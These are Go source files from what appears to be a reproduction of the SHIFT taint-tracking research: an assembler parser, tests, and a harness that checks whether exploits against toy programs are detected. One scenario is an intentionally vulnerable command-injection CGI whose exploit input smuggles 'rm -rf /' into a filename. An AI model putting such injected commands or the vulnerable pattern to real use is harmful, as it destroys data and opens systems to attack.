			t.Fatalf("parse %q: %v", text, err)
		}
		// Branch targets round-trip through the "@N" absolute syntax.
		if *got != ins {
			t.Fatalf("round trip mismatch:\n in: %+v (%q)\nout: %+v (%q)", ins, text, *got, got.String())
		}
	}
}

func TestProgramDisassembleReassemble(t *testing.T) {
	src := `
	.entry start
start:
	movl r1 = 100
	movl r2 = 0
again:
	add r2 = r2, r1
	addi r1 = r1, -1
	cmpi.gt p6, p7 = r1, 0
	(p6) br again
	syscall 1
`
	p1, err := Assemble(src, Options{})
	if err != nil {
		t.Fatal(err)
	}
	p2, err := Assemble(p1.Disassemble(), Options{})
	if err != nil {
		t.Fatalf("reassembling disassembly: %v\n%s", err, p1.Disassemble())
	}
	if len(p1.Text) != len(p2.Text) {
		t.Fatalf("length mismatch %d vs %d", len(p1.Text), len(p2.Text))
	}
	for i := range p1.Text {
		a, b := p1.Text[i], p2.Text[i]
		// Labels become absolute targets in disassembly; compare the
		// resolved form.
		a.Label, b.Label = "", ""
		a.Sym, b.Sym = "", ""
		if a != b {
			t.Errorf("instruction %d differs: %+v vs %+v", i, a, b)
		}
	}
}

func TestMultipleLabelsSameLine(t *testing.T) {
	p, err := Assemble("a: b: nop\nbr a\nbr b\n", Options{})
	if err != nil {
		t.Fatal(err)
	}
	if p.Symbols["a"] != 0 || p.Symbols["b"] != 0 {
		t.Errorf("labels: %v", p.Symbols)
	}
	if !strings.Contains(p.Disassemble(), "a:") {
		t.Error("disassembly lost label")
	}
}
