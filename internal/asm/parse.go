package asm

import (
	"fmt"
	"strconv"
	"strings"

	"shift/internal/isa"
)

// ParseInstruction parses a single instruction in the syntax produced by
// isa.Instruction.String. Labels are left symbolic for linking.
func ParseInstruction(line string) (*isa.Instruction, error) {
	line = strings.TrimSpace(line)
	ins := &isa.Instruction{}

	// Qualifying predicate.
	if strings.HasPrefix(line, "(") {
		end := strings.Index(line, ")")
		if end < 0 {
			return nil, fmt.Errorf("unterminated qualifying predicate")
		}
		p, err := parsePred(strings.TrimSpace(line[1:end]))
		if err != nil {
			return nil, err
		}
		ins.Qp = p
		line = strings.TrimSpace(line[end+1:])
	}

	// Normalise separators into spaces, keeping the mnemonic intact.
	fields := tokenize(line)
	if len(fields) == 0 {
		return nil, fmt.Errorf("empty instruction")
	}
	mn := fields[0]
	args := fields[1:]

	need := func(n int) error {
		if len(args) != n {
			return fmt.Errorf("%s: want %d operands, have %d", mn, n, len(args))
		}
		return nil
	}

	// Mnemonic families.
	switch {
	case mn == "nop":
		ins.Op = isa.OpNop
		return ins, need(0)

	case mn == "syscall":
		ins.Op = isa.OpSyscall
		if err := need(1); err != nil {
			return nil, err
		}
		v, err := parseInt(args[0])
		if err != nil {
			return nil, err
		}
		ins.Imm = v
		return ins, nil

	case mn == "setnat" || mn == "clrnat":
		if mn == "setnat" {
			ins.Op = isa.OpSetNat
		} else {
			ins.Op = isa.OpClrNat
		}
		if err := need(1); err != nil {
			return nil, err
		}
		r, err := parseGR(args[0])
		if err != nil {
			return nil, err
		}
		ins.Dest = r
		return ins, nil

	case mn == "mov":
		if err := need(2); err != nil {
			return nil, err
		}
		if args[0] == "unat" {
			ins.Op = isa.OpMovToUnat
			r, err := parseGR(args[1])
			if err != nil {
				return nil, err
			}
			ins.Src1 = r
			return ins, nil
		}
		if args[1] == "unat" {
			ins.Op = isa.OpMovFromUnat
			r, err := parseGR(args[0])
			if err != nil {
				return nil, err
			}
			ins.Dest = r
			return ins, nil
		}
		if args[0] == "ccv" {
			ins.Op = isa.OpMovToCcv
			r, err := parseGR(args[1])
			if err != nil {
				return nil, err
			}
			ins.Src1 = r
			return ins, nil
		}
		if args[1] == "ccv" {
			ins.Op = isa.OpMovFromCcv
			r, err := parseGR(args[0])
			if err != nil {
				return nil, err
			}
			ins.Dest = r
			return ins, nil
		}
		dstBR := strings.HasPrefix(args[0], "b")
		srcBR := strings.HasPrefix(args[1], "b")
		switch {
		case dstBR && !srcBR:
			ins.Op = isa.OpMovToBr
			b, err := parseBR(args[0])
			if err != nil {
				return nil, err
			}
			r, err := parseGR(args[1])
			if err != nil {
				return nil, err
			}
			ins.B, ins.Src1 = b, r
		case !dstBR && srcBR:
			ins.Op = isa.OpMovFromBr
			r, err := parseGR(args[0])
			if err != nil {
				return nil, err
			}
			b, err := parseBR(args[1])
			if err != nil {
				return nil, err
			}
			ins.Dest, ins.B = r, b
		case !dstBR && !srcBR:
			ins.Op = isa.OpMov
			d, err := parseGR(args[0])
			if err != nil {
				return nil, err
			}
			s, err := parseGR(args[1])
			if err != nil {
				return nil, err
			}
			ins.Dest, ins.Src1 = d, s
		default:
			return nil, fmt.Errorf("mov between branch registers is not supported")
		}
		return ins, nil

	case mn == "movl":
		ins.Op = isa.OpMovl
		if err := need(2); err != nil {
			return nil, err
		}
		d, err := parseGR(args[0])
		if err != nil {
			return nil, err
		}
		ins.Dest = d
		if v, err := parseInt(args[1]); err == nil {
			ins.Imm = v
			return ins, nil
		}
		// Symbolic data reference, optionally symbol+offset. The
		// assembler resolves it against the data symbol table.
		sym, off := args[1], int64(0)
		if i := strings.IndexByte(sym, '+'); i > 0 {
			v, err := parseInt(sym[i+1:])
			if err != nil {
				return nil, fmt.Errorf("bad symbol offset in %q", args[1])
			}
			sym, off = sym[:i], v
		}
		if !isIdent(sym) {
			return nil, fmt.Errorf("bad movl operand %q", args[1])
		}
		ins.Label, ins.Imm = sym, off
		return ins, nil

	case mn == "tnat":
		ins.Op = isa.OpTnat
		if err := need(3); err != nil {
			return nil, err
		}
		p1, err := parsePred(args[0])
		if err != nil {
			return nil, err
		}
		p2, err := parsePred(args[1])
		if err != nil {
			return nil, err
		}
		r, err := parseGR(args[2])
		if err != nil {
			return nil, err
		}
		ins.P1, ins.P2, ins.Src1 = p1, p2, r
		return ins, nil

	case mn == "chk.s":
		ins.Op = isa.OpChkS
		if err := need(2); err != nil {
			return nil, err
		}
		r, err := parseGR(args[0])
		if err != nil {
			return nil, err
		}
		ins.Src1 = r
		return ins, parseTarget(ins, args[1])

	case mn == "br":
		ins.Op = isa.OpBr
		if err := need(1); err != nil {
			return nil, err
		}
		return ins, parseTarget(ins, args[0])

	case mn == "br.call":
		ins.Op = isa.OpBrCall
		if err := need(2); err != nil {
			return nil, err
		}
		b, err := parseBR(args[0])
		if err != nil {
			return nil, err
		}
		ins.B = b
		return ins, parseTarget(ins, args[1])

	case mn == "br.ret" || mn == "br.ind":
		if mn == "br.ret" {
			ins.Op = isa.OpBrRet
		} else {
			ins.Op = isa.OpBrInd
		}
		if err := need(1); err != nil {
			return nil, err
		}
		b, err := parseBR(args[0])
		if err != nil {
			return nil, err
		}
		ins.B = b
		return ins, nil

	case strings.HasPrefix(mn, "cmpxchg"):
		size, err := strconv.Atoi(strings.TrimPrefix(mn, "cmpxchg"))
		if err != nil {
			return nil, fmt.Errorf("bad cmpxchg mnemonic %q", mn)
		}
		ins.Op, ins.Size = isa.OpCmpxchg, uint8(size)
		if err := need(3); err != nil {
			return nil, err
		}
		d, err := parseGR(args[0])
		if err != nil {
			return nil, err
		}
		a, err := parseGR(args[1])
		if err != nil {
			return nil, err
		}
		v, err := parseGR(args[2])
		if err != nil {
			return nil, err
		}
		ins.Dest, ins.Src1, ins.Src2 = d, a, v
		return ins, nil

	case strings.HasPrefix(mn, "cmp"):
		return parseCmp(ins, mn, args)

	case strings.HasPrefix(mn, "ld"):
		return parseLoad(ins, mn, args)

	case strings.HasPrefix(mn, "st"):
		return parseStore(ins, mn, args)
	}

	// Plain ALU families.
	if op, ok := aluOps[mn]; ok {
		ins.Op = op
		if err := need(3); err != nil {
			return nil, err
		}
		d, err := parseGR(args[0])
		if err != nil {
			return nil, err
		}
		s1, err := parseGR(args[1])
		if err != nil {
			return nil, err
		}
		ins.Dest, ins.Src1 = d, s1
		if op >= isa.OpAddi && op <= isa.OpSari {
			v, err := parseInt(args[2])
			if err != nil {
				return nil, err
			}
			ins.Imm = v
		} else {
			s2, err := parseGR(args[2])
			if err != nil {
				return nil, err
			}
			ins.Src2 = s2
		}
		return ins, nil
	}

	return nil, fmt.Errorf("unknown mnemonic %q", mn)
}

var aluOps = map[string]isa.Opcode{
	"add": isa.OpAdd, "sub": isa.OpSub, "and": isa.OpAnd, "andcm": isa.OpAndcm,
	"or": isa.OpOr, "xor": isa.OpXor, "shl": isa.OpShl, "shr": isa.OpShr,
	"sar": isa.OpSar, "mul": isa.OpMul, "div": isa.OpDiv, "rem": isa.OpRem,
	"addi": isa.OpAddi, "andi": isa.OpAndi, "ori": isa.OpOri, "xori": isa.OpXori,
	"shli": isa.OpShli, "shri": isa.OpShri, "sari": isa.OpSari,
}

func parseCmp(ins *isa.Instruction, mn string, args []string) (*isa.Instruction, error) {
	imm := strings.HasPrefix(mn, "cmpi")
	rest := strings.TrimPrefix(strings.TrimPrefix(mn, "cmpi"), "cmp")
	na := strings.HasPrefix(rest, ".na")
	if na {
		rest = strings.TrimPrefix(rest, ".na")
	}
	rest = strings.TrimPrefix(rest, ".")
	cond, ok := isa.CondFromString(rest)
	if !ok {
		return nil, fmt.Errorf("unknown compare relation %q in %q", rest, mn)
	}
	switch {
	case imm && na:
		ins.Op = isa.OpCmpiNa
	case imm:
		ins.Op = isa.OpCmpi
	case na:
		ins.Op = isa.OpCmpNa
	default:
		ins.Op = isa.OpCmp
	}
	ins.Cond = cond
	if len(args) != 4 {
		return nil, fmt.Errorf("%s: want 4 operands, have %d", mn, len(args))
	}
	p1, err := parsePred(args[0])
	if err != nil {
		return nil, err
	}
	p2, err := parsePred(args[1])
	if err != nil {
		return nil, err
	}
	s1, err := parseGR(args[2])
	if err != nil {
		return nil, err
	}
	ins.P1, ins.P2, ins.Src1 = p1, p2, s1
	if imm {
		v, err := parseInt(args[3])
		if err != nil {
			return nil, err
		}
		ins.Imm = v
	} else {
		s2, err := parseGR(args[3])
		if err != nil {
			return nil, err
		}
		ins.Src2 = s2
	}
	return ins, nil
}

func parseLoad(ins *isa.Instruction, mn string, args []string) (*isa.Instruction, error) {
	switch {
	case mn == "ld8.fill":
		ins.Op, ins.Size = isa.OpLdFill, 8
		if len(args) != 3 {
			return nil, fmt.Errorf("%s: want 3 operands", mn)
		}
		d, err := parseGR(args[0])
		if err != nil {
			return nil, err
		}
		a, err := parseGR(args[1])
		if err != nil {
			return nil, err
		}
		bit, err := parseInt(args[2])
		if err != nil {
			return nil, err
		}
		ins.Dest, ins.Src1, ins.Imm = d, a, bit
		return ins, nil
	default:
		spec := strings.HasSuffix(mn, ".s")
		sizeStr := strings.TrimSuffix(strings.TrimPrefix(mn, "ld"), ".s")
		size, err := strconv.Atoi(sizeStr)
		if err != nil {
			return nil, fmt.Errorf("bad load mnemonic %q", mn)
		}
		if spec {
			ins.Op = isa.OpLdS
		} else {
			ins.Op = isa.OpLd
		}
		ins.Size = uint8(size)
		if len(args) != 2 {
			return nil, fmt.Errorf("%s: want 2 operands", mn)
		}
		d, err := parseGR(args[0])
		if err != nil {
			return nil, err
		}
		a, err := parseGR(args[1])
		if err != nil {
			return nil, err
		}
		ins.Dest, ins.Src1 = d, a
		return ins, nil
	}
}

func parseStore(ins *isa.Instruction, mn string, args []string) (*isa.Instruction, error) {
	if mn == "st8.spill" {
		ins.Op, ins.Size = isa.OpStSpill, 8
		if len(args) != 3 {
			return nil, fmt.Errorf("%s: want 3 operands", mn)
		}
		a, err := parseGR(args[0])
		if err != nil {
			return nil, err
		}
		s, err := parseGR(args[1])
		if err != nil {
			return nil, err
		}
		bit, err := parseInt(args[2])
		if err != nil {
			return nil, err
		}
		ins.Src1, ins.Src2, ins.Imm = a, s, bit
		return ins, nil
	}
	size, err := strconv.Atoi(strings.TrimPrefix(mn, "st"))
	if err != nil {
		return nil, fmt.Errorf("bad store mnemonic %q", mn)
	}
	ins.Op, ins.Size = isa.OpSt, uint8(size)
	if len(args) != 2 {
		return nil, fmt.Errorf("%s: want 2 operands", mn)
	}
	a, err := parseGR(args[0])
	if err != nil {
		return nil, err
	}
	s, err := parseGR(args[1])
	if err != nil {
		return nil, err
	}
	ins.Src1, ins.Src2 = a, s
	return ins, nil
}

func parseTarget(ins *isa.Instruction, arg string) error {
	if strings.HasPrefix(arg, "@") {
		t, err := strconv.Atoi(arg[1:])
		if err != nil {
			return fmt.Errorf("bad absolute target %q", arg)
		}
		ins.Target = t
		return nil
	}
	if !isIdent(arg) {
		return fmt.Errorf("bad branch target %q", arg)
	}
	ins.Label = arg
	return nil
}

// tokenize splits an instruction into mnemonic and operand tokens,
// treating '=', ',', '[' and ']' as separators.
func tokenize(line string) []string {
	repl := strings.NewReplacer("=", " ", ",", " ", "[", " ", "]", " ")
	return strings.Fields(repl.Replace(line))
}

func parseGR(s string) (uint8, error) {
	if len(s) < 2 || s[0] != 'r' {
		return 0, fmt.Errorf("bad general register %q", s)
	}
	n, err := strconv.Atoi(s[1:])
	if err != nil || n < 0 || n >= isa.NumGR {
		return 0, fmt.Errorf("bad general register %q", s)
	}
	return uint8(n), nil
}

func parsePred(s string) (uint8, error) {
	if len(s) < 2 || s[0] != 'p' {
		return 0, fmt.Errorf("bad predicate register %q", s)
	}
	n, err := strconv.Atoi(s[1:])
	if err != nil || n < 0 || n >= isa.NumPR {
		return 0, fmt.Errorf("bad predicate register %q", s)
	}
	return uint8(n), nil
}

func parseBR(s string) (uint8, error) {
	if len(s) < 2 || s[0] != 'b' {
		return 0, fmt.Errorf("bad branch register %q", s)
	}
	n, err := strconv.Atoi(s[1:])
	if err != nil || n < 0 || n >= isa.NumBR {
		return 0, fmt.Errorf("bad branch register %q", s)
	}
	return uint8(n), nil
}
