// Package core is the stable entry point to the SHIFT reproduction: it
// re-exports the build/run façade (internal/shift), which wires together
// the paper's primary contribution — the instrumentation pass that reuses
// deferred-exception hardware for taint tracking (internal/instrument) —
// with the substrates it depends on: the minic compiler (internal/lang,
// internal/codegen), the NaT-bit machine (internal/machine), the tag
// space (internal/taint), and the policy engine (internal/policy).
//
// A typical use:
//
//	world := core.NewWorld()
//	world.NetIn = []byte(request)
//	res, err := core.BuildAndRun(
//	    []core.Source{{Name: "server.mc", Text: src}},
//	    world, core.Options{Instrument: true})
//	if res.Alert != nil { ... an attack was stopped ... }
package core

import "shift/internal/shift"

// Re-exported façade types.
type (
	// Source is one minic translation unit.
	Source = shift.Source
	// Options selects build and run behaviour.
	Options = shift.Options
	// World is the OS model: inputs, outputs, taint sources and sinks.
	World = shift.World
	// Result is everything a run produced.
	Result = shift.Result
	// Alert is a detected policy violation.
	Alert = shift.Alert
	// IOCosts models the cost of crossing the OS boundary.
	IOCosts = shift.IOCosts
)

// NewWorld returns an empty world with default I/O costs.
func NewWorld() *World { return shift.NewWorld() }

// Build compiles (and optionally instruments) sources with the runtime
// library.
var Build = shift.Build

// Run executes a built program against a world.
var Run = shift.Run

// BuildAndRun is the one-call convenience.
var BuildAndRun = shift.BuildAndRun
