package core_test

import (
	"testing"

	"shift/internal/core"
)

// TestFacade exercises the re-exported API end to end: the documented
// package example must actually work.
func TestFacade(t *testing.T) {
	world := core.NewWorld()
	world.NetIn = []byte{9}
	res, err := core.BuildAndRun([]core.Source{{Name: "s.mc", Text: `
int table[16];
void main() {
	char b[4];
	recv(b, 4);
	exit(table[b[0]]);
}`}}, world, core.Options{Instrument: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Alert == nil {
		t.Fatal("expected an alert from the tainted lookup")
	}
	if res.Alert.Violation.Policy != "L1" {
		t.Errorf("policy = %s, want L1", res.Alert.Violation.Policy)
	}
}

func TestFacadeBuildThenRun(t *testing.T) {
	prog, err := core.Build([]core.Source{{Name: "s.mc", Text: `
void main() { exit(40 + 2); }`}}, core.Options{})
	if err != nil {
		t.Fatal(err)
	}
	res, err := core.Run(prog, core.NewWorld(), core.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitStatus != 42 {
		t.Errorf("exit = %d", res.ExitStatus)
	}
}
