package attacks

import (
	"fmt"

	"shift/internal/shift"
	"shift/internal/taint"
)

// Result is the outcome of one attack evaluation at one granularity.
type Result struct {
	Attack *Attack
	Gran   taint.Granularity

	// BenignAlert is any alert raised on benign input (a false
	// positive; must be empty).
	BenignAlert string
	// ExploitPolicy is the policy that fired on the exploit ("" = missed).
	ExploitPolicy string
	// UnprotectedSucceeded reports that without SHIFT the exploit ran
	// to completion with no alert (the attack works).
	UnprotectedSucceeded bool
}

// Detected reports a correct detection with no false positive.
func (r *Result) Detected() bool {
	return r.BenignAlert == "" && r.ExploitPolicy == r.Attack.Expect && r.UnprotectedSucceeded
}

// Evaluate runs one attack at one granularity: benign input under SHIFT
// (expect silence), exploit input under SHIFT (expect the attack's policy),
// and exploit input without SHIFT (expect silent success).
func Evaluate(a *Attack, gran taint.Granularity) (*Result, error) {
	conf := a.Config()
	conf.Granularity = gran
	opt := shift.Options{Instrument: true, Policy: conf}

	prog, err := shift.Build([]shift.Source{{Name: a.Program, Text: a.Source}}, opt)
	if err != nil {
		return nil, fmt.Errorf("%s: build: %w", a.Program, err)
	}
	baseProg, err := shift.Build([]shift.Source{{Name: a.Program, Text: a.Source}}, shift.Options{})
	if err != nil {
		return nil, fmt.Errorf("%s: baseline build: %w", a.Program, err)
	}

	res := &Result{Attack: a, Gran: gran}

	benign, err := shift.Run(prog, a.Benign(), opt)
	if err != nil {
		return nil, fmt.Errorf("%s: benign run: %w", a.Program, err)
	}
	if benign.Trap != nil {
		return nil, fmt.Errorf("%s: benign run trapped: %v", a.Program, benign.Trap)
	}
	if benign.Alert != nil {
		res.BenignAlert = benign.Alert.String()
	}

	exploit, err := shift.Run(prog, a.Exploit(), opt)
	if err != nil {
		return nil, fmt.Errorf("%s: exploit run: %w", a.Program, err)
	}
	if exploit.Alert != nil {
		res.ExploitPolicy = exploit.Alert.Violation.Policy
	}

	raw, err := shift.Run(baseProg, a.Exploit(), shift.Options{})
	if err != nil {
		return nil, fmt.Errorf("%s: unprotected run: %w", a.Program, err)
	}
	res.UnprotectedSucceeded = raw.Trap == nil && raw.Alert == nil

	return res, nil
}

// EvaluateAll runs the full Table 2 at both granularities.
func EvaluateAll() ([]*Result, error) {
	var out []*Result
	for _, a := range All() {
		for _, g := range []taint.Granularity{taint.Byte, taint.Word} {
			r, err := Evaluate(a, g)
			if err != nil {
				return nil, err
			}
			out = append(out, r)
		}
	}
	return out, nil
}
