package attacks

import (
	"fmt"

	"shift/internal/isa"
	"shift/internal/loader"
	"shift/internal/policy"
	"shift/internal/pool"
	"shift/internal/shift"
	"shift/internal/taint"
)

// Result is the outcome of one attack evaluation at one granularity.
type Result struct {
	Attack *Attack
	Gran   taint.Granularity

	// BenignAlert is any alert raised on benign input (a false
	// positive; must be empty).
	BenignAlert string
	// ExploitPolicy is the policy that fired on the exploit ("" = missed).
	ExploitPolicy string
	// UnprotectedSucceeded reports that without SHIFT the exploit ran
	// to completion with no alert (the attack works).
	UnprotectedSucceeded bool
}

// Detected reports a correct detection with no false positive.
func (r *Result) Detected() bool {
	return r.BenignAlert == "" && r.ExploitPolicy == r.Attack.Expect && r.UnprotectedSucceeded
}

// Evaluate runs one attack at one granularity: benign input under SHIFT
// (expect silence), exploit input under SHIFT (expect the attack's policy),
// and exploit input without SHIFT (expect silent success).
func Evaluate(a *Attack, gran taint.Granularity) (*Result, error) {
	conf := a.Config()
	conf.Granularity = gran
	opt := shift.Options{Instrument: true, Policy: conf}

	prog, err := shift.Build([]shift.Source{{Name: a.Program, Text: a.Source}}, opt)
	if err != nil {
		return nil, fmt.Errorf("%s: build: %w", a.Program, err)
	}
	baseProg, err := shift.Build([]shift.Source{{Name: a.Program, Text: a.Source}}, shift.Options{})
	if err != nil {
		return nil, fmt.Errorf("%s: baseline build: %w", a.Program, err)
	}

	res := &Result{Attack: a, Gran: gran}

	benign, err := shift.Run(prog, a.Benign(), opt)
	if err != nil {
		return nil, fmt.Errorf("%s: benign run: %w", a.Program, err)
	}
	if benign.Trap != nil {
		return nil, fmt.Errorf("%s: benign run trapped: %v", a.Program, benign.Trap)
	}
	if benign.Alert != nil {
		res.BenignAlert = benign.Alert.String()
	}

	exploit, err := shift.Run(prog, a.Exploit(), opt)
	if err != nil {
		return nil, fmt.Errorf("%s: exploit run: %w", a.Program, err)
	}
	if exploit.Alert != nil {
		res.ExploitPolicy = exploit.Alert.Violation.Policy
	}

	raw, err := shift.Run(baseProg, a.Exploit(), shift.Options{})
	if err != nil {
		return nil, fmt.Errorf("%s: unprotected run: %w", a.Program, err)
	}
	res.UnprotectedSucceeded = raw.Trap == nil && raw.Alert == nil

	return res, nil
}

// EvaluateAll runs the full Table 2 at both granularities.
func EvaluateAll() ([]*Result, error) {
	var out []*Result
	for _, a := range All() {
		for _, g := range []taint.Granularity{taint.Byte, taint.Word} {
			r, err := Evaluate(a, g)
			if err != nil {
				return nil, err
			}
			out = append(out, r)
		}
	}
	return out, nil
}

// ---------------------------------------------------------------------
// Corpus evaluation (v2): typed verdicts that keep the two detection
// paths — H-policy sink alerts and L-policy NaT-consumption traps —
// distinguishable, so a scenario cannot "pass" by tripping the wrong
// machinery, and benign runs that fault are reported instead of
// silently conflated with clean runs.

// Verdict kinds. VerdictSink and VerdictTrap intentionally reuse the
// Scenario Kind constants, so an exploit verdict matches its scenario
// exactly when the detection arrived through the declared path.
const (
	VerdictSilent = "silent"  // ran to completion, no alert
	VerdictSink   = KindSink  // alert raised by a syscall sink check (H1–H5)
	VerdictTrap   = KindTrap  // alert from a NaT-consumption trap (L1–L3)
	VerdictFault  = "fault"   // non-policy trap (a bug, or a suppressed L policy)
)

// Verdict classifies one run's outcome.
type Verdict struct {
	Kind     string
	Policy   string        // policy ID for sink/trap verdicts
	Channels taint.Channel // violation channel attribution, when available
	Detail   string
}

// Classify derives the typed verdict from a run result. The sink/trap
// split keys off the alert's underlying trap: L-policy alerts wrap a
// real NaT-consumption fault, H-policy alerts wrap the synthetic trap
// the sink check raised.
func Classify(res *shift.Result) Verdict {
	switch {
	case res.Alert != nil:
		v := Verdict{Policy: res.Alert.Violation.Policy, Detail: res.Alert.String()}
		v.Channels = res.Alert.Violation.Channels
		if res.Alert.Trap != nil && res.Alert.Trap.Kind.IsNaTConsumption() {
			v.Kind = VerdictTrap
		} else {
			v.Kind = VerdictSink
		}
		return v
	case res.Trap != nil:
		return Verdict{Kind: VerdictFault, Detail: res.Trap.Error()}
	default:
		return Verdict{Kind: VerdictSilent}
	}
}

// EvalOptions selects the execution configuration of a corpus
// evaluation: granularity, which checker runs alongside (lockstep
// oracle and/or decoupled tag pipeline), selective instrumentation, and
// an optional policy-configuration override for channel-keyed runs.
type EvalOptions struct {
	Gran      taint.Granularity
	Oracle    bool
	Decoupled bool
	Selective bool
	// Config overrides the scenario's default policy configuration
	// (cloned before use; Gran is applied on top). nil = DefaultConfig.
	Config *policy.Config
}

// shiftOptions renders the evaluation options for one scenario run.
func (eo EvalOptions) shiftOptions() shift.Options {
	conf := eo.Config
	if conf == nil {
		conf = policy.DefaultConfig()
	}
	conf = conf.Clone()
	conf.Granularity = eo.Gran
	opt := shift.Options{Instrument: true, Policy: conf, Oracle: eo.Oracle, Selective: eo.Selective}
	if eo.Decoupled {
		opt.Decoupled = 2
	}
	return opt
}

// Outcome is a scenario's full evaluation at one configuration.
type Outcome struct {
	Scenario    *Scenario
	Opt         EvalOptions
	Benign      Verdict // must be silent
	Exploit     Verdict // must match the scenario's Kind and Expect
	Unprotected Verdict // must be silent (the attack works without SHIFT)
}

// Detected reports a correct detection: the exploit tripped the expected
// policy through the expected path, the benign run was silent, and the
// unprotected run let the attack through.
func (o *Outcome) Detected() bool {
	return o.Benign.Kind == VerdictSilent &&
		o.Exploit.Kind == o.Scenario.Kind &&
		o.Exploit.Policy == o.Scenario.Expect &&
		o.Unprotected.Kind == VerdictSilent
}

// buildScenario builds the scenario's program, instrumented per opt or
// as the uninstrumented baseline.
func buildScenario(s *Scenario, opt shift.Options) (*isa.Program, error) {
	if s.Asm {
		return shift.BuildAsm(s.Program, s.Source, opt)
	}
	return shift.Build([]shift.Source{{Name: s.Program, Text: s.Source}}, opt)
}

// EvaluateScenario runs one corpus scenario at one configuration:
// benign and exploit under SHIFT, exploit without SHIFT. Scenarios with
// a custom harness (pool bleed) evaluate through it instead.
func EvaluateScenario(s *Scenario, eo EvalOptions) (*Outcome, error) {
	if s.Eval != nil {
		return s.Eval(eo)
	}
	opt := eo.shiftOptions()
	prog, err := buildScenario(s, opt)
	if err != nil {
		return nil, fmt.Errorf("%s: build: %w", s.Program, err)
	}
	baseProg, err := buildScenario(s, shift.Options{})
	if err != nil {
		return nil, fmt.Errorf("%s: baseline build: %w", s.Program, err)
	}

	out := &Outcome{Scenario: s, Opt: eo}
	benign, err := shift.Run(prog, s.Benign(), opt)
	if err != nil {
		return nil, fmt.Errorf("%s: benign run: %w", s.Program, err)
	}
	out.Benign = Classify(benign)

	exploit, err := shift.Run(prog, s.Exploit(), opt)
	if err != nil {
		return nil, fmt.Errorf("%s: exploit run: %w", s.Program, err)
	}
	out.Exploit = Classify(exploit)

	raw, err := shift.Run(baseProg, s.Exploit(), shift.Options{})
	if err != nil {
		return nil, fmt.Errorf("%s: unprotected run: %w", s.Program, err)
	}
	out.Unprotected = Classify(raw)
	return out, nil
}

// EvaluateCorpus runs every corpus scenario at one configuration.
func EvaluateCorpus(eo EvalOptions) ([]*Outcome, error) {
	var out []*Outcome
	for _, s := range Corpus() {
		o, err := EvaluateScenario(s, eo)
		if err != nil {
			return nil, err
		}
		out = append(out, o)
	}
	return out, nil
}

// runPoolBleed is PoolBleed's custom harness. Its "exploit" is a
// lifecycle, not an input: the attacker request sprays taint, a naive
// recycle (registers + data segment, no tag clear) smuggles the tags,
// and the victim's trusted-channel query false-positives H3. The benign
// arm is the same tenant pair over internal/pool, whose recycle clears
// tags. The unprotected arm runs the pair uninstrumented.
//
// The naive-recycle arm runs without the lockstep/decoupled checkers:
// the broken lifecycle violates the checkers' own invariant (stale tag
// bits with no shadow provenance), which is precisely the defect the
// scenario documents — the checkers would stop the run before the
// victim's sink is reached.
func runPoolBleed(eo EvalOptions) (*Outcome, error) {
	s := scnPoolBleed
	opt := eo.shiftOptions()
	prog, err := buildScenario(s, opt)
	if err != nil {
		return nil, fmt.Errorf("%s: build: %w", s.Program, err)
	}
	out := &Outcome{Scenario: s, Opt: eo}

	// Benign arm: attacker then victim through the pool (tag clear on
	// recycle). The victim must stay silent.
	p, err := pool.New(prog, 1, opt)
	if err != nil {
		return nil, fmt.Errorf("%s: pool: %w", s.Program, err)
	}
	if res, err := p.Run(s.Exploit()); err != nil {
		return nil, fmt.Errorf("%s: pooled attacker run: %w", s.Program, err)
	} else if res.Alert != nil || res.Trap != nil {
		return nil, fmt.Errorf("%s: attacker request should complete silently: alert=%v trap=%v", s.Program, res.Alert, res.Trap)
	}
	vres, err := p.Run(s.Benign())
	if err != nil {
		return nil, fmt.Errorf("%s: pooled victim run: %w", s.Program, err)
	}
	out.Benign = Classify(vres)

	// Exploit arm: same tenant pair over a naive recycle that forgets
	// the tag bitmap. The bleed surfaces as H3 on the victim.
	noCheck := opt
	noCheck.Oracle, noCheck.Decoupled = false, 0
	exploit, err := runNaiveRecycle(prog, noCheck, s.Exploit(), s.Benign())
	if err != nil {
		return nil, err
	}
	out.Exploit = exploit

	// Unprotected arm: no instrumentation, no tags to bleed.
	baseProg, err := buildScenario(s, shift.Options{})
	if err != nil {
		return nil, fmt.Errorf("%s: baseline build: %w", s.Program, err)
	}
	raw, err := runNaiveRecycle(baseProg, shift.Options{}, s.Exploit(), s.Benign())
	if err != nil {
		return nil, err
	}
	out.Unprotected = raw
	return out, nil
}

// runNaiveRecycle reuses one guest for two requests with the pre-fix
// lifecycle — registers restored and globals rewritten, the tag bitmap
// forgotten — and returns the second request's verdict.
func runNaiveRecycle(prog *isa.Program, opt shift.Options, first, second *shift.World) (Verdict, error) {
	img, err := loader.Load(prog)
	if err != nil {
		return Verdict{}, err
	}
	mach := img.NewMachine()
	regs := mach.SnapshotRegs()
	var tags *taint.Space
	if opt.Instrument {
		tags = taint.NewSpace(img.Mem, opt.Policy.Granularity)
	}
	runOn := func(w *shift.World) (*shift.Result, error) {
		w.HeapBase, w.StackTop = img.HeapBase, img.StackTop
		w.Tags = tags
		return shift.RunOn(mach, w, opt)
	}
	if _, err := runOn(first); err != nil {
		return Verdict{}, fmt.Errorf("naive recycle: first request: %w", err)
	}
	mach.RestoreRegs(regs)
	if len(prog.Data) > 0 {
		if f := img.Mem.WriteBytes(prog.DataBase, prog.Data); f != nil {
			return Verdict{}, fmt.Errorf("naive recycle: %v", f)
		}
	}
	res, err := runOn(second)
	if err != nil {
		return Verdict{}, fmt.Errorf("naive recycle: second request: %w", err)
	}
	return Classify(res), nil
}
