package attacks

// Extension scenarios beyond the paper's Table 2: the catalogue's H4
// (command injection) policy has no row in the paper's evaluation, so
// this file adds one, built and evaluated exactly like the originals.

// CmdInjection is a CGI-style gallery script that shells out to an image
// converter with the user-supplied filename spliced into the command
// line — the classic H4 command injection.
var CmdInjection = &Attack{
	CVE:      "EXT-H4",
	Program:  "thumbnailer CGI (extension)",
	Language: "C",
	Type:     "Command Injection",
	Policies: "H4 + Low level policies",
	Expect:   "H4",
	Source: `
char name[128];
char cmd[512];

void main() {
	int n = recv(name, 128);
	if (n <= 0) exit(1);
	// The vulnerability: the filename reaches system() unsanitised.
	strcpy(cmd, "convert /www/uploads/");
	strcat(cmd, name);
	strcat(cmd, " -resize 120x120 /www/thumbs/out.png");
	system(cmd);
	exit(0);
}
`,
	Benign:  netWorld("holiday.jpg"),
	Exploit: netWorld("x.jpg;rm -rf /;echo"),
}

// Extensions lists the scenarios added beyond Table 2.
